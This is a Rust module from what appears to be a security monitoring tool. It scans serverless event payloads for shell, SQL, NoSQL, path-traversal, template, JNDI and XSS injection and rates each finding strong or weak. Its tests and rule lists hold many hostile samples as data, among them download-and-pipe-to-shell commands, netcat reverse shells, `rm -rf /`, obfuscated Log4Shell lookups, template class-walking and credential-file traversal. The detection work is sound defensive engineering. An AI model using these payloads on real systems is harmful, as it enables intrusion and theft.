//! Injection payloads in the triggering event sample.
//!
//! Every string value of the event (and every object key, for NoSQL
//! operators) is checked, after URL-decoding, descending into JSON carried in
//! strings (an API Gateway `body`, an SQS `body`, an SNS `Message`) and
//! base64 bodies. SQL and XSS use libinjection's tokeniser and fingerprints
//! (`libinjectionrs`); shell, NoSQL, path traversal, template and JNDI
//! payloads use small tokenising rules of our own. A finding is `Strong` when
//! the syntax is an attack's and nothing else (a quote break-out into a
//! tautology, `${jndi:`, `; curl ... | sh`), `Weak` when it is suspicious
//! but plausible in ordinary text (a complete SQL statement, `; ls`).
//!
//! Limits: at most [`MAX_STRINGS`] strings and [`MAX_BYTES`] bytes of each
//! are looked at, JSON in strings is decoded two levels deep. Fields that
//! legitimately carry SQL or code are muted by the caller's per-function
//! baseline (class and path), not here.

use serde::{Deserialize, Serialize};
use serde_json::Value;

/// Strings looked at per event.
pub const MAX_STRINGS: usize = 256;
/// Bytes looked at per string.
pub const MAX_BYTES: usize = 4096;

/// The family of a payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum InjectionClass {
    Shell,
    Sql,
    NoSql,
    PathTraversal,
    Template,
    Jndi,
    Xss,
}

impl InjectionClass {
    pub fn as_str(&self) -> &'static str {
        match self {
            InjectionClass::Shell => "shell",
            InjectionClass::Sql => "sql",
            InjectionClass::NoSql => "nosql",
            InjectionClass::PathTraversal => "path_traversal",
            InjectionClass::Template => "template",
            InjectionClass::Jndi => "jndi",
            InjectionClass::Xss => "xss",
        }
    }

    /// Words for summaries.
    pub fn label(&self) -> &'static str {
        match self {
            InjectionClass::Shell => "shell command",
            InjectionClass::Sql => "SQL",
            InjectionClass::NoSql => "NoSQL operator",
            InjectionClass::PathTraversal => "path traversal",
            InjectionClass::Template => "template",
            InjectionClass::Jndi => "JNDI lookup",
            InjectionClass::Xss => "script (XSS)",
        }
    }
}

/// How sure a finding is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Strength {
    Weak,
    Strong,
}

/// One payload found in an event.
#[derive(Debug, Clone, PartialEq)]
pub struct Finding {
    pub class: InjectionClass,
    pub strength: Strength,
    /// Field path, array indices folded to `[]` (`body.username`, `Records[].body.note`).
    pub path: String,
    /// libinjection's fingerprint, or the name of the rule.
    pub fingerprint: String,
    /// The offending value, at most 160 characters, control characters escaped.
    pub excerpt: String,
}

const NOSQL_OPS: [&str; 14] = [
    "$ne", "$gt", "$gte", "$lt", "$lte", "$in", "$nin", "$regex", "$where", "$exists", "$expr",
    "$or", "$and", "$not",
];

const COMMANDS: [&str; 34] = [
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "python",
    "python3",
    "perl",
    "php",
    "ruby",
    "cat",
    "id",
    "whoami",
    "uname",
    "rm",
    "chmod",
    "chown",
    "echo",
    "sleep",
    "ping",
    "nslookup",
    "base64",
    "busybox",
    "powershell",
    "cmd",
    "ls",
    "env",
    "socat",
    "telnet",
];

/// Scans one event sample (JSON text or a plain string).
pub fn scan_event(event: &str) -> Vec<Finding> {
    let mut out: Vec<Finding> = Vec::new();
    let mut budget = MAX_STRINGS;
    let t = event.trim_start();
    if (t.starts_with('{') || t.starts_with('['))
        && let Ok(v) = serde_json::from_str::<Value>(t)
    {
        walk(&v, "", 0, 0, &mut budget, &mut out);
    } else {
        check_string(event, "", &mut out);
    }
    // At most one finding per (path, class): the strongest.
    out.sort_by(|a, b| {
        (a.path.as_str(), a.class)
            .cmp(&(b.path.as_str(), b.class))
            .then(b.strength.cmp(&a.strength))
    });
    out.dedup_by(|a, b| a.path == b.path && a.class == b.class);
    out.sort_by_key(|f| std::cmp::Reverse(f.strength));
    out
}

fn join(path: &str, key: &str) -> String {
    if path.is_empty() {
        key.to_string()
    } else {
        format!("{path}.{key}")
    }
}

fn walk(
    v: &Value,
    path: &str,
    depth: usize,
    json_depth: usize,
    budget: &mut usize,
    out: &mut Vec<Finding>,
) {
    if depth > 32 || *budget == 0 {
        return;
    }
    match v {
        Value::String(s) => {
            *budget -= 1;
            let t = s.trim_start();
            if json_depth < 2
                && (t.starts_with('{') || t.starts_with('['))
                && let Ok(inner) = serde_json::from_str::<Value>(t)
            {
                walk(&inner, path, depth + 1, json_depth + 1, budget, out);
                return;
            }
            check_string(s, path, out);
        }
        Value::Array(items) => {
            let p = format!("{path}[]");
            for item in items.iter().take(64) {
                walk(item, &p, depth + 1, json_depth, budget, out);
            }
        }
        Value::Object(map) => {
            let b64 = map.get("isBase64Encoded").and_then(Value::as_bool) == Some(true);
            for (k, item) in map.iter().take(256) {
                if NOSQL_OPS.contains(&k.as_str()) {
                    out.push(Finding {
                        class: InjectionClass::NoSql,
                        strength: Strength::Strong,
                        path: path.to_string(),
                        fingerprint: format!("nosql:key {k}"),
                        excerpt: excerpt(&format!("{{\"{k}\": {item}}}")),
                    });
                }
                let p = join(path, k);
                if b64
                    && k == "body"
                    && let Some(text) = item.as_str().and_then(decode_base64)
                {
                    walk(&Value::String(text), &p, depth + 1, json_depth, budget, out);
                    continue;
                }
                walk(item, &p, depth + 1, json_depth, budget, out);
            }
        }
        _ => {}
    }
}

fn decode_base64(s: &str) -> Option<String> {
    use base64::Engine;
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(s.trim())
        .ok()?;
    String::from_utf8(bytes).ok()
}

fn excerpt(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars().take(160) {
        if c.is_control() {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

/// Cheap test: none of the bytes any rule needs.
fn may_carry_payload(s: &str) -> bool {
    s.bytes().any(|b| {
        matches!(
            b,
            b'\''
                | b'"'
                | b'='
                | b';'
                | b'|'
                | b'&'
                | b'$'
                | b'`'
                | b'<'
                | b'>'
                | b'{'
                | b'%'
                | b'\n'
                | b'#'
        )
    }) || s.contains("..")
        || s.contains("--")
        || s.contains("/*")
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' {
            let hex = |c: u8| (c as char).to_digit(16);
            if let (Some(h), Some(l)) = (
                b.get(i + 1).and_then(|c| hex(*c)),
                b.get(i + 2).and_then(|c| hex(*c)),
            ) {
                out.push((h * 16 + l) as u8);
                i += 3;
                continue;
            }
        }
        out.push(if b[i] == b'+' { b' ' } else { b[i] });
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn check_string(raw: &str, path: &str, out: &mut Vec<Finding>) {
    let mut end = raw.len().min(MAX_BYTES);
    while !raw.is_char_boundary(end) {
        end -= 1;
    }
    let s = &raw[..end];
    if !may_carry_payload(s) {
        return;
    }
    let decoded;
    let s = if s.contains('%') {
        let once = percent_decode(s);
        decoded = if once.contains('%') {
            percent_decode(&once)
        } else {
            once
        };
        decoded.as_str()
    } else {
        s
    };
    for (class, strength, fp) in scan_value_cached(s) {
        out.push(Finding {
            class,
            strength,
            path: path.to_string(),
            fingerprint: fp,
            excerpt: excerpt(s),
        });
    }
}

/// Strings longer than this are scanned every time, not remembered.
const CACHE_MAX_LEN: usize = 1024;
/// Distinct strings remembered per thread before the cache starts over.
const CACHE_MAX_ENTRIES: usize = 32_768;

type Verdicts = Vec<(InjectionClass, Strength, String)>;

thread_local! {
    /// Event samples repeat their strings (user agents, templates, query
    /// bodies): [`scan_value`] is a pure function of its input, so its
    /// verdicts are remembered per thread.
    static VERDICTS: std::cell::RefCell<
        std::collections::HashMap<String, Verdicts, foldhash::fast::RandomState>,
    > = std::cell::RefCell::new(std::collections::HashMap::default());
}

fn scan_value_cached(s: &str) -> Verdicts {
    if s.len() > CACHE_MAX_LEN {
        return scan_guarded(s, scan_value);
    }
    VERDICTS.with(|cell| {
        let mut cache = cell.borrow_mut();
        if let Some(v) = cache.get(s) {
            return v.clone();
        }
        let v = scan_guarded(s, scan_value);
        if cache.len() >= CACHE_MAX_ENTRIES {
            cache.clear();
        }
        cache.insert(s.to_string(), v.clone());
        v
    })
}

/// Runs `scan` on one string so that a bug it hits on a hostile string
/// (a panic in our rules or in libinjection's port) costs that string's
/// verdict, not the run: every event sample of a window goes through here,
/// and one attacker-chosen field must not stop `detect` for the fleet. The
/// string is logged (escaped, first 300 characters) with the panic.
fn scan_guarded<F>(s: &str, scan: F) -> Verdicts
where
    F: Fn(&str) -> Verdicts + std::panic::RefUnwindSafe,
{
    match std::panic::catch_unwind(|| scan(s)) {
        Ok(v) => v,
        Err(panic) => {
            let excerpt: String = s.chars().take(300).collect();
            tracing::warn!(
                value = %excerpt.escape_debug(),
                panic = %crate::shell::panic_text(&*panic),
                "the injection scanner failed on an event string; that string was skipped"
            );
            Vec::new()
        }
    }
}

/// Scans one (already decoded) string value.
pub fn scan_value(s: &str) -> Vec<(InjectionClass, Strength, String)> {
    let mut found = Vec::new();
    if !may_carry_payload(s) {
        return found;
    }
    let lower = s.to_ascii_lowercase();
    if let Some(f) = jndi(&lower) {
        found.push(f);
    }
    if let Some(f) = template(&lower) {
        found.push(f);
    }
    if let Some(f) = traversal(&lower) {
        found.push(f);
    }
    if let Some(f) = shell(&lower) {
        found.push(f);
    }
    if let Some(f) = nosql_text(&lower) {
        found.push(f);
    }
    if let Some(f) = sql(s, &lower) {
        found.push(f);
    }
    if let Some(f) = xss(s, &lower) {
        found.push(f);
    }
    found
}

/// `${lower:j}` -> `j`, `${::-n}` -> `n`, `${env:X:-d}` -> `d`, repeatedly.
fn strip_lookups(s: &str) -> String {
    let mut cur = s.to_string();
    for _ in 0..8 {
        let mut changed = false;
        let mut out = String::with_capacity(cur.len());
        let mut rest = cur.as_str();
        while let Some(i) = rest.find("${") {
            out.push_str(&rest[..i]);
            let after = &rest[i + 2..];
            // Only innermost lookups (no nested `${` before the closing brace).
            match after.find('}') {
                Some(j) if !after[..j].contains("${") => {
                    let inner = &after[..j];
                    let lit = if let Some(v) = inner
                        .strip_prefix("lower:")
                        .or_else(|| inner.strip_prefix("upper:"))
                    {
                        Some(v.to_string())
                    } else {
                        inner.rfind(":-").map(|pos| inner[pos + 2..].to_string())
                    };
                    match lit {
                        Some(l) => {
                            out.push_str(&l);
                            changed = true;
                        }
                        None => {
                            out.push_str("${");
                            out.push_str(inner);
                            out.push('}');
                        }
                    }
                    rest = &after[j + 1..];
                }
                _ => {
                    out.push_str("${");
                    rest = after;
                }
            }
        }
        out.push_str(rest);
        cur = out;
        if !changed {
            break;
        }
    }
    cur
}

fn jndi(lower: &str) -> Option<(InjectionClass, Strength, String)> {
    if !lower.contains("${") {
        return None;
    }
    let flat = strip_lookups(lower);
    if flat.contains("${jndi:") || lower.contains("${jndi:") {
        return Some((InjectionClass::Jndi, Strength::Strong, "jndi:lookup".into()));
    }
    for p in ["${env:", "${sys:", "${ctx:", "${java:", "${main:"] {
        if lower.contains(p) {
            return Some((
                InjectionClass::Jndi,
                Strength::Weak,
                format!("jndi:{}", &p[2..p.len() - 1]),
            ));
        }
    }
    None
}

fn has_arith(s: &str) -> bool {
    let b = s.as_bytes();
    b.windows(3).any(|w| {
        w[0].is_ascii_digit() && matches!(w[1], b'*' | b'+' | b'/' | b'-') && w[2].is_ascii_digit()
    }) || b.windows(5).any(|w| {
        w[0].is_ascii_digit()
            && w[1] == b' '
            && matches!(w[2], b'*' | b'+')
            && w[3] == b' '
            && w[4].is_ascii_digit()
    })
}

fn template(lower: &str) -> Option<(InjectionClass, Strength, String)> {
    const EVIL: [&str; 14] = [
        "__class__",
        "__mro__",
        "__subclasses__",
        "__globals__",
        "__builtins__",
        "__init__",
        "config",
        "self",
        "lipsum",
        "cycler",
        "joiner",
        "namespace",
        "request.application",
        "|attr(",
    ];
    let mut rest = lower;
    while let Some(i) = rest.find("{{") {
        let after = &rest[i + 2..];
        let Some(j) = after.find("}}") else { break };
        let inner = after[..j].trim();
        if has_arith(inner) || EVIL.iter().any(|e| inner.contains(e)) || inner.contains('(') {
            return Some((
                InjectionClass::Template,
                Strength::Strong,
                "template:jinja-expression".into(),
            ));
        }
        rest = &after[j + 2..];
    }
    for (open, name) in [
        ("${", "el"),
        ("#{", "el"),
        ("*{", "spel"),
        ("<%=", "erb"),
        ("<%", "erb"),
    ] {
        let mut rest = lower;
        while let Some(i) = rest.find(open) {
            let after = &rest[i + open.len()..];
            let close = if open.starts_with('<') { "%>" } else { "}" };
            let Some(j) = after.find(close) else { break };
            let inner = &after[..j];
            if has_arith(inner)
                || inner.contains("runtime")
                || inner.contains("t(java")
                || inner.contains("getclass")
                || (open.starts_with('<') && !inner.trim().is_empty())
            {
                return Some((
                    InjectionClass::Template,
                    Strength::Strong,
                    format!("template:{name}-expression"),
                ));
            }
            rest = &after[j..];
        }
    }
    None
}

fn traversal(lower: &str) -> Option<(InjectionClass, Strength, String)> {
    let ups = lower.matches("../").count() + lower.matches("..\\").count();
    const TARGETS: [&str; 8] = [
        "etc/passwd",
        "etc/shadow",
        "proc/self",
        "/environ",
        "win.ini",
        ".aws/credentials",
        ".ssh/",
        "boot.ini",
    ];
    let target = TARGETS.iter().any(|t| lower.contains(t));
    if ups >= 2 {
        let strength = if ups >= 3 || target {
            Strength::Strong
        } else {
            Strength::Weak
        };
        return Some((
            InjectionClass::PathTraversal,
            strength,
            format!("traversal:{ups}-up"),
        ));
    }
    if target && (lower.starts_with('/') || lower.starts_with("file:") || ups == 1) {
        return Some((
            InjectionClass::PathTraversal,
            Strength::Weak,
            "traversal:sensitive-path".into(),
        ));
    }
    None
}

fn shell(lower: &str) -> Option<(InjectionClass, Strength, String)> {
    let b = lower.as_bytes();
    let mut best: Option<(Strength, String)> = None;
    let mut i = 0;
    while i < b.len() {
        let sep_len = match b[i] {
            b';' | b'\n' | b'`' => 1,
            b'|' | b'&' => {
                if b.get(i + 1) == Some(&b[i]) {
                    2
                } else if b[i] == b'|' {
                    1
                } else {
                    0
                }
            }
            b'$' if b.get(i + 1) == Some(&b'(') => 2,
            _ => 0,
        };
        if sep_len == 0 {
            i += 1;
            continue;
        }
        let sep = &lower[i..i + sep_len];
        let rest = lower[i + sep_len..].trim_start();
        let word: String = rest
            .chars()
            .take_while(|c| {
                !c.is_whitespace() && !matches!(c, ';' | '|' | '&' | '`' | ')' | '\'' | '"')
            })
            .collect();
        let base = word.rsplit('/').next().unwrap_or(&word);
        if COMMANDS.contains(&base) {
            let downloads = rest.contains("http://")
                || rest.contains("https://")
                || base == "curl"
                || base == "wget";
            let piped_shell = lower.contains("| sh")
                || lower.contains("|sh")
                || lower.contains("| bash")
                || lower.contains("|bash");
            let subst = sep == "$(" || sep == "`";
            let strength = if downloads
                || piped_shell
                || subst
                || matches!(
                    base,
                    "sh" | "bash" | "zsh" | "dash" | "ksh" | "busybox" | "powershell"
                )
                || base == "sleep"
                || base == "nc"
                || base == "ncat"
            {
                Strength::Strong
            } else {
                Strength::Weak
            };
            let fp = format!("shell:{}{}", sep.trim(), base);
            if best.as_ref().is_none_or(|(s, _)| strength > *s) {
                best = Some((strength, fp));
            }
        }
        i += sep_len;
    }
    best.map(|(s, fp)| (InjectionClass::Shell, s, fp))
}

fn nosql_text(lower: &str) -> Option<(InjectionClass, Strength, String)> {
    if !lower.contains('$') {
        return None;
    }
    for op in NOSQL_OPS {
        if lower.contains(&format!("[{op}]"))
            || lower.contains(&format!("\"{op}\""))
            || lower.contains(&format!("{op}:"))
        {
            return Some((
                InjectionClass::NoSql,
                Strength::Strong,
                format!("nosql:{op}"),
            ));
        }
    }
    None
}

fn sql(s: &str, lower: &str) -> Option<(InjectionClass, Strength, String)> {
    const STRONG: [&str; 19] = [
        "union select",
        "union all select",
        "pg_sleep(",
        "sleep(",
        "benchmark(",
        "waitfor delay",
        "' or '1'='1",
        "' or 1=1",
        "\" or \"1\"=\"1",
        "\" or 1=1",
        "'; drop ",
        "; drop table",
        "' or ''='",
        "or 1=1--",
        "or 1=1",
        "or (1=1",
        "and 1=1",
        "and (1=1",
        "or true--",
    ];
    let compact: String = lower.split_whitespace().collect::<Vec<_>>().join(" ");
    if let Some(p) = STRONG.iter().find(|p| compact.contains(*p)) {
        return Some((
            InjectionClass::Sql,
            Strength::Strong,
            format!("sql:{}", p.trim()),
        ));
    }
    let interesting = s.contains('\'')
        || s.contains('"')
        || s.contains("--")
        || s.contains("/*")
        || s.contains('#')
        || s.contains(';');
    if !interesting {
        return None;
    }
    let r = libinjectionrs::detect_sqli(s.as_bytes());
    if !r.is_injection() {
        return None;
    }
    let fp = r.fingerprint.map(|f| f.to_string()).unwrap_or_default();
    // A quote break-out followed by logic, a union or a comment is an attack;
    // anything else libinjection flags may be a complete ordinary statement.
    let breakout = fp.starts_with('s')
        && (fp.contains('&') || fp.contains('U') || fp.contains('c') || fp.contains(';'));
    let strength = if breakout {
        Strength::Strong
    } else {
        Strength::Weak
    };
    Some((InjectionClass::Sql, strength, format!("libinjection:{fp}")))
}

fn xss(s: &str, lower: &str) -> Option<(InjectionClass, Strength, String)> {
    if !(lower.contains('<') || lower.contains("javascript:")) {
        return None;
    }
    if lower.contains("<script")
        || lower.contains("javascript:")
        || lower.contains("onerror=")
        || lower.contains("onload=")
    {
        return Some((InjectionClass::Xss, Strength::Strong, "xss:script".into()));
    }
    if libinjectionrs::detect_xss(s.as_bytes()).is_injection() {
        return Some((
            InjectionClass::Xss,
            Strength::Weak,
            "libinjection:xss".into(),
        ));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strong(s: &str, class: InjectionClass) {
        let f = scan_value(s);
        assert!(
            f.iter()
                .any(|(c, st, _)| *c == class && *st == Strength::Strong),
            "{s:?}: expected strong {class:?}, got {f:?}"
        );
    }

    #[test]
    fn attacks_are_found() {
        use InjectionClass::*;
        for s in [
            "1' OR '1'='1",
            "x' UNION SELECT username, password FROM users--",
            "'; DROP TABLE orders;--",
            "1; SELECT pg_sleep(30)--",
            "admin' or 1=1--",
            "1) OR (1=1",
            "5 or 1=1",
        ] {
            strong(s, Sql);
        }
        for s in [
            "a.jpg; curl -s http://203.0.113.7/x.sh | sh",
            "$(sleep 900)",
            "x`wget http://e.example/a`",
            "x && /bin/bash -i",
            "n|nc 1.2.3.4 4444",
        ] {
            strong(s, Shell);
        }
        for s in [
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "../../proc/self/environ",
        ] {
            strong(s, PathTraversal);
        }
        for s in [
            "{{7*7}}",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "${7*7}",
            "<%= 7*7 %>",
            "{{config.items()}}",
        ] {
            strong(s, Template);
        }
        for s in [
            "${jndi:ldap://x.example/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${j${env:NOTHING:-n}di:dns://x}",
        ] {
            strong(s, Jndi);
        }
        strong("<script>alert(1)</script>", Xss);
        strong("username[$ne]=x", NoSql);
    }

    #[test]
    fn benign_text_is_quiet() {
        for s in [
            "O'Brien",
            "it's 5 o'clock",
            "rock & roll",
            "R&D",
            "Q&A",
            "100%",
            "50% off",
            "jdoe@example.com",
            "https://example.com/search?q=shoes&size=10",
            "2026-11-23T10:00:00Z",
            "incoming/ab12.jpg",
            "Hello {{ user.name }}, your order {{ order.id | upper }} shipped",
            "Hello ${name}",
            "curl-up chair",
            "a-b_c.d",
            "C:\\Program Files\\app",
            "see section 3; then continue",
            "price (incl. tax): 12.50",
            "# Heading\n\n- item",
            "{\"sku\":\"B-1042\",\"qty\":2}",
            "SGVsbG8gd29ybGQ=",
            "8f1c0b6e-2b8e-4d41-9a53-0c1f7e2a9d10",
            "Tom & Jerry's",
            "5 < 6 > 4",
        ] {
            let f: Vec<_> = scan_value(s)
                .into_iter()
                .filter(|(_, st, _)| *st == Strength::Strong)
                .collect();
            assert!(f.is_empty(), "{s:?}: {f:?}");
        }
    }

    #[test]
    fn a_panicking_scan_costs_one_string_not_the_run() {
        let v = scan_guarded("x'; rm -rf /", |_| -> Verdicts { panic!("a scanner bug") });
        assert!(v.is_empty());
        // The scanner goes on with the next string.
        let v = scan_guarded("x; curl http://1.2.3.4/a | sh", scan_value);
        assert!(
            v.iter().any(|(c, _, _)| *c == InjectionClass::Shell),
            "{v:?}"
        );
    }

    #[test]
    fn hostile_strings_do_not_stop_a_scan() {
        // Multi-byte characters next to every byte a rule slices at, control
        // characters, unbalanced quotes, brackets and escapes, cut anywhere.
        let parts = [
            "'", "\"", "`", "$(", "${", "{{", "}}", "<%", "%>", "%2", "%", ";", "|", "&&", "..",
            "../", "é", "日本", "\u{0}", "\n", "\\", "--", "/*", "*/", "<script", "jndi:", "é'",
            "'é", "😀", "\u{202e}", "sh", " ", "=", "#", "0x", "OR 1=1", "$ne", "{",
        ];
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = move || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        for _ in 0..4_000 {
            let n = (next() % 24) as usize;
            let mut s = String::new();
            for _ in 0..n {
                s.push_str(parts[(next() % parts.len() as u64) as usize]);
            }
            let _ = scan_value(&s);
            let _ = scan_event(&serde_json::json!({ "body": s }).to_string());
            // Cut at every character boundary.
            for (i, _) in s.char_indices().step_by(3) {
                let _ = scan_value(&s[i..]);
            }
        }
    }

    #[test]
    fn events_are_walked_with_paths() {
        let ev = r#"{"httpMethod":"POST","body":"{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}"}"#;
        let f = scan_event(ev);
        assert!(
            f.iter()
                .any(|x| x.class == InjectionClass::NoSql && x.path == "body.username"),
            "{f:?}"
        );
        let ev = r#"{"Records":[{"body":"{\"note\":\"x; curl http://1.2.3.4/a | sh\"}"}]}"#;
        let f = scan_event(ev);
        assert!(
            f.iter()
                .any(|x| x.class == InjectionClass::Shell && x.path == "Records[].body.note"),
            "{f:?}"
        );
        let ev = r#"{"queryStringParameters":{"file":"%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"}}"#;
        let f = scan_event(ev);
        assert!(f.iter().any(|x| x.class == InjectionClass::PathTraversal && x.strength == Strength::Strong), "{f:?}");
        assert!(!scan_event("plain ${jndi:ldap://a/b}").is_empty());
        let deep = "[".repeat(100_000);
        assert!(scan_event(&deep).is_empty());
        let big = "a'".repeat(2_500_000);
        let _ = scan_event(&big);
    }
}
